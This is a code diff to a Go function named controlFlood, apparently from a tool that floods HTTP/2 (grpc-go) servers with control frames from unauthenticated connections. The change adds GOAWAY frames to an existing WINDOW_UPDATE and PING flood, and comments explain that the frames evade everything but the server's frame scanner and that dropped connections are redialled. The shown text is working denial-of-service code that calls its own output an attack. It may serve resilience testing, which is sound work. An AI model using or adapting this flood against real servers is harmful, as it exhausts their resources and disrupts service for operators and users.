@@ -68,8 +68,8 @@ var padding = make([]byte, 8)
 // (o) Control frames, without a credential: each connection sends
 // WINDOW_UPDATE frames for the connection and PING frames, which a
 // reader sends as it reads and every HTTP/2 server answers or applies,
-// as fast as the server reads them. No call is made, so nothing but the
-// frame scanner sees them. A connection the server closes (grpc-go's
+// and GOAWAY frames, which grpc-go ignores, as fast as the server reads
+// them. No call is made, so nothing but the frame scanner sees them. A connection the server closes (grpc-go's
 // keepalive policy sends GOAWAY after a few PINGs on a connection it
 // writes nothing else to) is dialled again.
 func controlFlood(ctx context.Context, s childSpec) (string, error) {
@@ -95,6 +95,9 @@ func controlFlood(ctx context.Context, s childSpec) (string, error) {
 							if err := fr.WritePing(false, ping); err != nil {
 								return err
 							}
+							if err := fr.WriteGoAway(0, http2.ErrCodeNo, nil); err != nil {
+								return err
+							}
 						}
 						return nil
 					})
@@ -102,7 +105,7 @@ func controlFlood(ctx context.Context, s childSpec) (string, error) {
 						err = h2.Flush()
 					}
 					if err == nil {
-						frames.Add(2 * batch)
+						frames.Add(3 * batch)
 					}
 				}
 				if err != nil && !ended(ctx) {
@@ -113,6 +116,6 @@ func controlFlood(ctx context.Context, s childSpec) (string, error) {
 		})
 	}
 	wg.Wait()
-	return fmt.Sprintf("%s control frames sent (WINDOW_UPDATE and PING, no call) on %d connections at a time; %s dials, %s connections ended before the attack's end",
+	return fmt.Sprintf("%s control frames sent (WINDOW_UPDATE, PING and GOAWAY, no call) on %d connections at a time; %s dials, %s connections ended before the attack's end",
 		commas(int(frames.Load())), connections, commas(int(dials.Load())), commas(int(closed.Load()))) + attackerCPU(), nil
 }
